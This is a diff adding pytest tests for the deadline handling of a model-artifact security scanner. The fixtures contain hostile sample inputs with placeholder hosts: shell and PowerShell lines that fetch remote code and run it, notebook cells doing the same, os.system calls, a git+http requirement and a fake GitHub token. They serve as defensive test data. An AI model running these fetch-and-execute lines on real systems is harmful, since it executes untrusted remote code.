@@ -1,0 +1,167 @@
+"""The deadline of an artifact, for loops that compute without reading. Time passes as it is asked for."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import time
+
+import pytest
+
+from modelaudit.model.artifact import Artifact
+from modelaudit.model.limits import Limits
+from modelaudit.model.outline import Outline
+from modelaudit.model.structure import UnreadReason
+from modelaudit.pipeline import ArtifactReading
+from modelaudit.wire.base import DamagedError, LimitReachedError, Reader
+from modelaudit.wire.deadline import SPENT, Deadline, in_time, keep_time, keeping
+from modelaudit.wire.windows import opener
+
+LIMITS = Limits(artifact_seconds=200, seconds_per_gib=0)
+"""Seconds of the clock below: as many looks at the time."""
+
+PYTHON = "import os\nos.system('echo inert')\n" + "".join(f"a{n} = b{n} + 'c'\n" for n in range(20_000))
+NOTEBOOK = {
+    "cells": [
+        {"cell_type": "code", "source": [f"!curl http://a{n} | sh\n"], "metadata": {}, "outputs": []}
+        for n in range(1000)
+    ],
+    "nbformat": 4,
+    "nbformat_minor": 5,
+    "metadata": {},
+}
+LARGE = {
+    "a.sh": "curl http://a/b | sh\n" + "eval 'true; true; true; true; true; true; true; true; true'\n" * 60,
+    "a.ps1": "iex (iwr http://a/b)\n" + "echo 1\n" * 50_000,
+    "a.py": PYTHON,
+    "broken.py": PYTHON + "print 'a'\n" + PYTHON,
+    "a.ipynb": json.dumps(NOTEBOOK),
+    "config.json": json.dumps({"auto_map": {"AutoModel": "a.B"}, "all": [{"a": 1}] * 5000}),
+    "a.yaml": "_target_: os.system\n" + "a: [b]\n" * 50_000,
+    "requirements.txt": "git+http://a/b.git\n" + "a==1\n" * 50_000,
+    "a.xml": "<a>" + "<b/>" * 5000 + "</a>",
+    "graph.pbtxt": "node { name: 'a' op: 'ReadFile' }\n" + "node { name: 'b' op: 'NoOp' }\n" * 5000,
+    "a.toml": "_target_: os.system\n" + "_target_: a\n" * 5000,
+    "secrets.txt": "ghp_" + "Zq3Rt9Lm2Xw7" * 3 + "\n" + "http://a:b@c\n" * 5000,
+}
+
+
+class _Clock:
+    """A second passes with every look at it."""
+
+    def __init__(self) -> None:
+        self.now = 0.0
+
+    def monotonic(self) -> float:
+        self.now += 1
+        return self.now
+
+
+@pytest.fixture
+def clock(monkeypatch: pytest.MonkeyPatch) -> _Clock:
+    found = _Clock()
+    monkeypatch.setattr(time, "monotonic", found.monotonic)
+    return found
+
+
+class _Bytes:
+    def __init__(self, data: bytes) -> None:
+        self._data = data
+        self.size = len(data)
+
+    def read(self, offset: int, length: int) -> bytes:
+        return self._data[offset : offset + length]
+
+
+def _reading(name: str, data: bytes, limits: Limits = LIMITS) -> ArtifactReading:
+    reading = ArtifactReading(limits)
+    reading.run(Artifact(name, len(data), opener(_Bytes(data))), hashing=False)
+    return reading
+
+
+def test_a_loop_goes_on_until_the_deadline_and_no_further(clock: _Clock) -> None:
+    with keeping(Deadline(3)), pytest.raises(LimitReachedError, match=SPENT):
+        for _ in range(10):
+            keep_time()
+    assert clock.now == 4
+
+
+def test_without_a_deadline_and_after_one_a_loop_goes_on(clock: _Clock) -> None:
+    with keeping(Deadline(-1)), pytest.raises(LimitReachedError):
+        keep_time()
+    keep_time()
+
+
+def test_items_are_counted_between_looks(clock: _Clock) -> None:
+    assert list(in_time(range(10), 4)) == list(range(10))
+    assert clock.now == 3
+
+
+def test_a_deadline_inside_of_another_ends_with_its_block(clock: _Clock) -> None:
+    with keeping(Deadline(1000)):
+        with keeping(Deadline(-1)) as inner, pytest.raises(LimitReachedError):
+            keep_time()
+        assert inner.reached
+        keep_time()
+
+
+@pytest.mark.parametrize("name", LARGE)
+def test_reaching_it_while_computing_is_an_absence_and_the_work_ends(name: str, clock: _Clock) -> None:
+    reading = _reading(name, LARGE[name].encode())
+    spent = [unread for _, unread in reading.unread if SPENT in unread.detail]
+    assert spent
+    assert {unread.reason for unread in spent} == {UnreadReason.LIMIT}
+    assert UnreadReason.READER_FAILED not in {unread.reason for _, unread in reading.unread}
+    # Each of the readers that are still to be asked, and each that swallows the end, looks a few times more.
+    assert clock.now < LIMITS.artifact_seconds + 300
+
+
+@pytest.mark.parametrize(
+    ("name", "found", "seconds"),
+    [
+        ("a.sh", "http://a/b", 600),
+        ("a.ps1", "http://a/b", 400),
+        ("a.py", "os.system", 400),
+        ("a.ipynb", "curl http://a0", 12_000),
+        ("requirements.txt", "git+http://a/b.git", 200),
+        ("a.toml", "os.system", 400),
+        ("secrets.txt", "GitHub token", 400),
+    ],
+)
+def test_what_was_found_before_it_stays(name: str, found: str, seconds: int, clock: _Clock) -> None:
+    reading = _reading(name, LARGE[name].encode(), Limits(artifact_seconds=seconds, seconds_per_gib=0))
+    assert any(SPENT in unread.detail for _, unread in reading.unread)
+    names = [
+        f"{mention.name} {mention.detail}"
+        for _, each in reading.structures
+        if isinstance(each, Outline)
+        for mention in each.mentions
+    ]
+    assert any(found in each for each in names), names[:5]
+
+
+@pytest.mark.parametrize("name", LARGE)
+def test_with_time_enough_it_is_never_told(name: str) -> None:
+    reading = _reading(name, LARGE[name].encode(), Limits(artifact_seconds=1e6))
+    assert not any(SPENT in unread.detail for _, unread in reading.unread)
+
+
+def _gives_up(*_: object) -> itertools.repeat[None]:
+    for _ in range(1000):
+        try:
+            keep_time()
+        except DamagedError:
+            break
+    return itertools.repeat(None, 0)
+
+
+def test_whoever_swallows_it_does_not_hide_it(clock: _Clock) -> None:
+    reading = ArtifactReading(LIMITS)
+    data = b"text"
+
+    def read(artifact: Artifact, window: object, depth: int = 0) -> None:
+        reading.read_as(Reader("x", lambda head: True, _gives_up), artifact, _Bytes(data))
+
+    reading.read = read  # type: ignore[method-assign, assignment]
+    reading.run(Artifact("a.txt", len(data), opener(_Bytes(data))), hashing=False)
+    assert [(each.reason, each.detail) for _, each in reading.unread] == [(UnreadReason.LIMIT, SPENT)]
